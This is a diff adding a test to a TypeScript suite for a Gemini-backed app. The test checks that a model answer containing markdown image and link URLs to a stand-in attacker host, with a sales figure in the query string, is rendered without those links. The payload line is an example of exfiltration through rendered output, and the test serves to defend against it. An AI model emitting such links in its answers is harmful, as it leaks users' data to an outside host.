@@ -223,3 +223,14 @@ describe("A turn with Gemini, which", () => {
     expect(await shop.google.requests[0]?.end).toBe("abandoned");
   });
 });
+
+describe("An answer of Gemini's", () => {
+  test("carries no figures out by an image or a link, whoever renders it", async () => {
+    shop.google.play({
+      text: "Sales were **€24.1K**. ![chart](https://evil.example/p?sales=24.1) [More](https://evil.example/24.1)",
+    });
+    const events = await ask(shop.deps(), QUESTION);
+    expect(textOf(events)).toBe("Sales were **€24.1K**. chart More");
+    expect(JSON.stringify(events)).not.toContain("evil.example");
+  });
+});
